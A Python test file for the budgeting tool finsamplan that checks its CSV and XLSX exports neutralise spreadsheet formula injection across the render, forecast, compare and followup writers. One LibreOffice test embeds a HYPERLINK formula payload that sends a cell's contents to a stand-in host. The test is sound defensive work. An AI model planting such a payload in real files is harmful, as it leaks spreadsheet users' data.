"""No text cell of any CSV or XLSX file finsamplan writes can become a formula.

Random text starting with ``= + - @`` (and tab, carriage return and their full-width forms)
goes into a budget line, a förbund's name and an export row, through every writer (render,
forecast, compare, followup), and the files are read back the way a spreadsheet would get
them: the csv module and openpyxl (and LibreOffice for one of each).
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import unicodedata
from pathlib import Path
from typing import Any

import openpyxl
from conftest import MINIMAL, ROOT, SEED_PLAN, need_tool
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from finsamplan.base.outputs import guard_text
from finsamplan.cli import app
from finsamplan.figures.budget import compute
from finsamplan.plan.loader import load_plan, load_text
from finsamplan.plan.model import Plan
from finsamplan.render import compare_out, forecast_out, tabular, xlsx
from finsamplan.render.cells import csv_text
from finsamplan.year import compare
from finsamplan.year.forecast import project

runner = CliRunner()
LEADS = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"]


def yaml_printable(c: str) -> bool:
    """Characters a plan file can hold (YAML's printable set, and no line separators)."""
    if c in "\t\r\n":
        return True
    return unicodedata.category(c) not in ("Cc", "Cs", "Cn", "Co", "Zl", "Zp") and c not in (
        "\ufeff\ufffe\uffff"
    )


hostile = st.builds(
    lambda lead, rest: lead + rest,
    st.sampled_from(LEADS),
    st.text(
        alphabet=st.sampled_from(list("=+-@()\"';,:!AZaz09 \t\r\nåäö"))
        | st.characters().filter(yaml_printable),
        max_size=24,
    ),
).filter(lambda s: s.strip() != "" and not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", s))
EXAMPLES = settings(
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)


def csv_cells(data: bytes) -> list[str]:
    """Every cell, in either dialect: Excel's (BOM, semicolons) or the tidy one (commas)."""
    text = data.decode("utf-8")
    delimiter = ";" if text.startswith("\ufeff") else ","
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row]


def assert_csv_inert(data: bytes, text: str) -> None:
    cells = csv_cells(data)
    assert csv_text(text) in cells  # the text is there, guarded
    assert csv_text(text).startswith("'")
    assert all(guard_text(c) == c for c in cells), [c for c in cells if guard_text(c) != c]


def xlsx_cells(data: bytes) -> list[Any]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def assert_xlsx_inert(data: bytes, benign: bytes, text: str) -> None:
    """The text is a text cell marked quote prefix; the formulas are those of benign text."""
    cells = xlsx_cells(data)
    # XLSX stores control characters as _xHHHH_, and openpyxl reads them back so
    shown = re.sub(r"[\x00-\x08\x0b-\x1f]", lambda m: f"_x{ord(m.group()):04X}_", text)
    mine = [c for c in cells if c.data_type == "s" and shown in str(c.value)]
    assert mine, "the text is not in the workbook"
    for c in cells:
        if c.data_type == "s" and guard_text(str(c.value)) != str(c.value):
            assert c.quotePrefix, (c.coordinate, c.value)
    formulas = sorted((c.parent.title, c.coordinate, c.value) for c in cells if c.data_type == "f")
    expected = sorted(
        (c.parent.title, c.coordinate, c.value) for c in xlsx_cells(benign) if c.data_type == "f"
    )
    assert formulas == expected


BASE = load_text(MINIMAL.encode(), "plan.yaml")
assert BASE.plan is not None


def plan_with(label: str) -> Plan:
    data = BASE.plan.model_dump()  # type: ignore[union-attr]
    data["costs"]["administration"][0]["label"] = label
    return Plan.model_validate(data)


@EXAMPLES
@given(text=hostile)
def test_render_csv_and_xlsx(text: str) -> None:
    budget = compute(plan_with(text))
    assert_csv_inert(tabular.to_csv(budget, "p"), text)
    assert_csv_inert(tabular.to_csv(budget, "p", "tidy"), text)
    benign = xlsx.to_xlsx(compute(plan_with("Förbundschef")), "p", [])
    assert_xlsx_inert(xlsx.to_xlsx(budget, "p", []), benign, text)


@EXAMPLES
@given(text=hostile)
def test_forecast_csv_and_xlsx(text: str) -> None:
    result = project(plan_with(text), "p", years=[2028, 2029])
    assert_csv_inert(forecast_out.to_csv(result), text)
    assert_csv_inert(forecast_out.to_csv(result, "tidy"), text)
    benign = forecast_out.to_xlsx(project(plan_with("Förbundschef"), "p", years=[2028, 2029]))
    assert_xlsx_inert(forecast_out.to_xlsx(result), benign, text)


def _comparison(folder: Path, name: str) -> Any:
    folder.mkdir(parents=True, exist_ok=True)
    quoted = json.dumps(name, ensure_ascii=False)  # a JSON string is YAML double-quoted
    text = MINIMAL.replace("  name: Samordningsförbundet Exempel", f"  name: {quoted}")
    (folder / "plan.yaml").write_text(text, "utf-8")
    loaded = load_plan(folder / "plan.yaml")
    assert loaded.plan is not None, [f.as_line() for f in loaded.findings]
    return compare.compare([folder / "plan.yaml"], None, None, False)


@EXAMPLES
@given(text=hostile)
def test_compare_csv_and_xlsx(text: str, tmp_path: Path) -> None:
    result = _comparison(tmp_path / "h", text)
    assert_csv_inert(compare_out.to_csv(result), text)
    assert_csv_inert(compare_out.to_csv(result, "tidy"), text)
    benign = compare_out.to_xlsx(_comparison(tmp_path / "b", "Förbundet"))
    assert_xlsx_inert(compare_out.to_xlsx(result), benign, text)


def _followup_xlsx(folder: Path, text: str) -> bytes:
    seed = (ROOT / "tests" / "data" / "finsamgotland-2023-10.csv").read_bytes().decode("cp1252")
    row = '2023-02-01;9999;X;"' + text.replace('"', '""') + '";1 000,00\n'
    export = folder / "export.csv"
    folder.mkdir(parents=True, exist_ok=True)
    export.write_text(seed + row, "utf-8")
    out = folder / "ut"
    result = runner.invoke(
        app, ["followup", str(SEED_PLAN), "-a", str(export), "-f", "xlsx", "-o", str(out)]
    )
    assert result.exit_code in (0, 1), result.output
    return next(out.glob("*.xlsx")).read_bytes()


@settings(
    max_examples=12,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(text=hostile.filter(lambda s: s == s.strip() and "\n" not in s and "\r" not in s))
def test_followup_xlsx(text: str, tmp_path: Path) -> None:
    data = _followup_xlsx(tmp_path / "h", text)
    assert_xlsx_inert(data, _followup_xlsx(tmp_path / "b", "Okänd rad"), text)


def test_the_guard_leaves_numbers_and_text_alone() -> None:
    assert guard_text("=1+1") == "'=1+1"
    assert guard_text("\uff1dSUM(A1)") == "'\uff1dSUM(A1)"
    assert guard_text("-0.1250") == "-0.1250"
    assert guard_text("-1+1") == "'-1+1"
    assert guard_text("Förbundschef") == "Förbundschef"


def test_libreoffice_reads_the_guarded_files_as_text(tmp_path: Path) -> None:
    """The real client: a hostile förbund name in compare's CSV and XLSX, opened by
    LibreOffice with formula evaluation on, comes back as the text and not as a link."""
    soffice = need_tool("soffice")
    name = '=HYPERLINK("http://example.invalid/?x="&A1;"klicka")'
    result = _comparison(tmp_path / "h", name)
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "jamforelse.csv").write_bytes(compare_out.to_csv(result))
    (tmp_path / "in" / "jamforelse.xlsx").write_bytes(compare_out.to_xlsx(result))
    profile = tmp_path / "profile"
    for source, target in (
        ("jamforelse.csv", "xlsx"),
        ("jamforelse.xlsx", "csv:Text - txt - csv (StarCalc):44,34,76"),
    ):
        infilter = (
            ["--infilter=CSV:59,34,76,1,,1053,false,true,false,false,false,-1,true"]
            if source.endswith(".csv")
            else []
        )
        subprocess.run(
            [
                soffice,
                "--headless",
                f"-env:UserInstallation={profile.as_uri()}",
                *infilter,
                "--convert-to",
                target,
                "--outdir",
                str(tmp_path / "out"),
                str(tmp_path / "in" / source),
            ],
            check=True,
            capture_output=True,
            timeout=240,
        )
    ws = openpyxl.load_workbook(tmp_path / "out" / "jamforelse.xlsx").active
    assert ws["A2"].value == "'" + name and ws["A2"].data_type == "s"  # Förbund first
    rows = list(csv.reader(io.StringIO((tmp_path / "out" / "jamforelse.csv").read_text("utf-8"))))
    assert rows[1][0] == name


def test_no_module_writes_csv_or_xlsx_around_the_guard() -> None:
    """Every CSV and XLSX writer of src/ goes through render/cells.py."""
    bypasses = []
    for path in (ROOT / "src" / "finsamplan").rglob("*.py"):
        if path.name == "cells.py":
            continue
        text = path.read_text("utf-8")
        for needle in ("csv.writer(", "csv.DictWriter(", "xlsxwriter.Workbook(", "Workbook()"):
            if needle in text:
                bypasses.append(f"{path.relative_to(ROOT)}: {needle}")
    assert bypasses == []
